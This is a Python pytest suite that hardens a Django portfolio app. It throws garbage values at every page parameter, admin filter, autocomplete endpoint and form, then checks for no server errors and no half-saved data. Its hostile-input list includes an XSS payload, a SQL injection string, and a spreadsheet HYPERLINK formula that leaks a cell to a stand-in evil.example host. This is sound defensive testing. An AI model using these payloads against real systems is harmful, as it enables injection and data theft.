"""Garbage to every parameter, filter, autocomplete and form of the product: never a server error,
never anything half saved, the same on SQLite and PostgreSQL (issue: hardening, "Done when").

The parameters are found on the pages themselves (every field of every GET form, every key of
every link back to the page, and the admin's filter links), so a filter added later is covered
without touching this file. A server error raises here (the client re-raises it with its traceback).
"""

from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlsplit

import pytest
from django.apps import apps
from django.contrib import admin
from django.urls import reverse

from initiatives.models import Initiative

# Huge and negative numbers, NUL, 10,000 characters, markup, formula prefixes, control characters,
# impossible dates, and a few classics.
HOSTILE = [
    "9" * 30,
    "-" + "9" * 30,
    "-1",
    "\x00",
    "x" * 10_000,
    '<script>alert(1)</script><img src=x onerror="alert(2)">',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
    "\x01\x0b\x1b",
    "1e308",
    "2024-13-45",
    "' OR 1=1 --",
    "%",
]
# Always tried, besides what the page shows: paging, sorting and the ids pages take.
USUAL_KEYS = {"page", "sort", "o", "p", "q", "strategy", "initiative", "days", "user", "level"}
# What "nothing half saved" is checked against: every table of portfolio data.
PORTFOLIO_APPS = ("authorities", "strategies", "initiatives", "digests")


class _Fields(HTMLParser):
    """The names of the form fields on a page, and the query keys of its links."""

    def __init__(self):
        super().__init__()
        self.fields: dict[str, str] = {}  # name -> the form's method
        self.link_queries: list[tuple[str, list[str]]] = []
        self._method = "get"

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "form":
            self._method = (attributes.get("method") or "get").lower()
        elif tag in ("input", "select", "textarea") and attributes.get("name"):
            self.fields.setdefault(attributes["name"], self._method)
        elif tag == "a" and attributes.get("href"):
            parts = urlsplit(attributes["href"])
            if parts.query:
                self.link_queries.append((parts.path, [key for key, _value in parse_qsl(parts.query)]))


def page_fields(html: str) -> _Fields:
    parser = _Fields()
    parser.feed(html)
    return parser


def body(response) -> bytes:
    """The whole body, a streamed one included (an error half-way through a stream raises here)."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def get_keys(client, path: str) -> set[str]:
    """Every GET parameter the page at `path` offers."""
    found = page_fields(body(client.get(path)).decode("utf-8", "replace"))
    keys = {name for name, method in found.fields.items() if method == "get"}
    for link_path, link_keys in found.link_queries:
        if link_path in ("", path):
            keys.update(link_keys)
    return keys - {"csrfmiddlewaretoken"}


def portfolio_counts() -> dict[str, int]:
    return {
        model._meta.label: model._base_manager.count()
        for app in PORTFOLIO_APPS
        for model in apps.get_app_config(app).get_models()
    }


@pytest.fixture
def hostile_client(client, analyst, portfolio):
    client.force_login(analyst)
    client.raise_request_exception = True
    return client


def assert_no_server_error(client, path: str, keys: set[str]) -> int:
    tried = 0
    for key in sorted(keys | USUAL_KEYS):
        for value in HOSTILE:
            response = client.get(path, {key: value})
            body(response)
            assert response.status_code < 500, (path, key, value[:40])
            tried += 1
    return tried


DASHBOARD_PAGES = [
    "home", "interdependencies", "network_json", "impact", "authorities:list", "authorities:detail",
    "initiatives:list", "initiatives:export_csv", "initiatives:export_xlsx", "initiatives:detail",
    "subscription_settings", "digest_preview", "digest_preview_html",
]


@pytest.mark.parametrize("name", DASHBOARD_PAGES)
def test_every_dashboard_parameter_survives_garbage(hostile_client, portfolio, name):
    if name == "authorities:detail":
        path = reverse(name, args=[portfolio["upstream"].lead_id])
    elif name == "initiatives:detail":
        path = reverse(name, args=[portfolio["upstream"].pk])
    else:
        path = reverse(name)
    keys = get_keys(hostile_client, path)
    if name.startswith("initiatives:export"):
        keys |= get_keys(hostile_client, reverse("initiatives:list"))  # the list's filters, exported
    before = portfolio_counts()

    assert assert_no_server_error(hostile_client, path, keys) >= len(USUAL_KEYS) * len(HOSTILE)
    assert portfolio_counts() == before


def admin_changelists() -> list[str]:
    return sorted(
        f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist" for model in admin.site._registry
    )


@pytest.mark.parametrize("changelist", admin_changelists())
def test_every_admin_list_filter_survives_garbage(hostile_client, changelist):
    path = reverse(changelist)
    found = page_fields(hostile_client.get(path).content.decode())
    keys = {"q", "o", "p", "all", "e"}
    for link_path, link_keys in found.link_queries:
        if link_path in ("", path):
            keys.update(link_keys)
    before = portfolio_counts()

    for key in sorted(keys):
        for value in HOSTILE:
            response = hostile_client.get(path, {key: value})
            assert response.status_code < 500, (path, key, value[:40])
    assert portfolio_counts() == before


def autocomplete_fields() -> list[tuple[str, str, str]]:
    return sorted(
        (model._meta.app_label, model._meta.model_name, field)
        for model, model_admin in admin.site._registry.items()
        for field in getattr(model_admin, "autocomplete_fields", ())
    ) + sorted(
        (inline.model._meta.app_label, inline.model._meta.model_name, field)
        for model_admin in admin.site._registry.values()
        for inline in model_admin.inlines
        for field in getattr(inline, "autocomplete_fields", ())
    )


@pytest.mark.parametrize("client_of", ["secretariat", "coordinator"])
def test_every_autocomplete_survives_garbage(client, analyst, kobenhavn_coordinator, portfolio, client_of):
    client.force_login(analyst if client_of == "secretariat" else kobenhavn_coordinator)
    client.raise_request_exception = True
    targets = set(autocomplete_fields())
    assert targets, "no autocomplete found: the admin changed, look at this test"
    for app_label, model_name, field in sorted(targets):
        for value in HOSTILE:
            for params in (
                {"app_label": app_label, "model_name": model_name, "field_name": field, "term": value},
                {"app_label": app_label, "model_name": model_name, "field_name": field, "term": "a", "page": value},
                {"app_label": value, "model_name": model_name, "field_name": field, "term": "a"},
                {"app_label": app_label, "model_name": value, "field_name": field, "term": "a"},
                {"app_label": app_label, "model_name": model_name, "field_name": value, "term": "a"},
            ):
                response = client.get("/admin/autocomplete/", params)
                assert response.status_code < 500, (params, value[:40])


def admin_add_forms() -> list[str]:
    return sorted(f"admin:{model._meta.app_label}_{model._meta.model_name}_add" for model in admin.site._registry)


@pytest.mark.parametrize("add_form", admin_add_forms())
def test_every_admin_form_refuses_garbage_and_saves_nothing(hostile_client, add_form):
    path = reverse(add_form)
    page = hostile_client.get(path)
    if page.status_code == 403:  # read-only in the admin (the lock-out log, the sent summaries)
        assert hostile_client.post(path, {"x": HOSTILE[0]}).status_code == 403
        return
    fields = {name for name, method in page_fields(page.content.decode()).fields.items() if method == "post"}
    fields -= {"csrfmiddlewaretoken"}
    management = {name: value for name, value in _management_form(page.content.decode()).items()}
    before = portfolio_counts()

    for value in HOSTILE:
        data = {**{name: value for name in fields if not name.endswith(("TOTAL_FORMS", "INITIAL_FORMS",
                                                                        "MIN_NUM_FORMS", "MAX_NUM_FORMS"))},
                **management}
        response = hostile_client.post(path, data)
        assert response.status_code < 500, (add_form, value[:40])
        if response.status_code == 302:  # text every field may hold (a name of nines): saved whole
            saved = page_fields(hostile_client.get(response["Location"]).content.decode())
            assert saved.fields, (add_form, value[:40], "saved, but its page does not open")
            before = portfolio_counts()
        else:
            assert portfolio_counts() == before, (add_form, value[:40], "a refused form saved something")


def _management_form(html: str) -> dict[str, str]:
    """The inline formsets' management fields as the page sent them (garbage there is another test)."""

    class _Management(HTMLParser):
        def __init__(self):
            super().__init__()
            self.values = {}

        def handle_starttag(self, tag, attrs):
            attributes = dict(attrs)
            name = attributes.get("name") or ""
            if tag == "input" and name.endswith(("TOTAL_FORMS", "INITIAL_FORMS", "MIN_NUM_FORMS", "MAX_NUM_FORMS")):
                self.values[name] = attributes.get("value") or ""

    parser = _Management()
    parser.feed(html)
    return parser.values


def test_garbage_management_forms_are_a_clear_refusal_not_an_error(hostile_client, portfolio):
    path = reverse("admin:initiatives_initiative_change", args=[portfolio["upstream"].pk])
    fields = page_fields(hostile_client.get(path).content.decode()).fields
    before = portfolio_counts()
    for value in HOSTILE:
        data = {name: value for name, method in fields.items() if method == "post" and name != "csrfmiddlewaretoken"}
        response = hostile_client.post(path, data)
        assert response.status_code < 500 and response.status_code != 302, value[:40]
    assert portfolio_counts() == before
    assert Initiative.objects.get(pk=portfolio["upstream"].pk).title_da == portfolio["upstream"].title_da


@pytest.mark.parametrize("value", HOSTILE)
def test_the_login_and_subscription_forms_refuse_garbage(client, analyst, portfolio, value):
    client.raise_request_exception = True
    response = client.post(reverse("login"), {"username": value, "password": value})
    assert response.status_code < 500

    client.force_login(analyst)
    before = portfolio_counts()
    fields = page_fields(client.get(reverse("subscription_settings")).content.decode()).fields
    data = {name: value for name, method in fields.items() if method == "post" and name != "csrfmiddlewaretoken"}
    response = client.post(reverse("subscription_settings"), data)
    assert response.status_code < 500
    assert response.status_code != 302 or portfolio_counts() == before
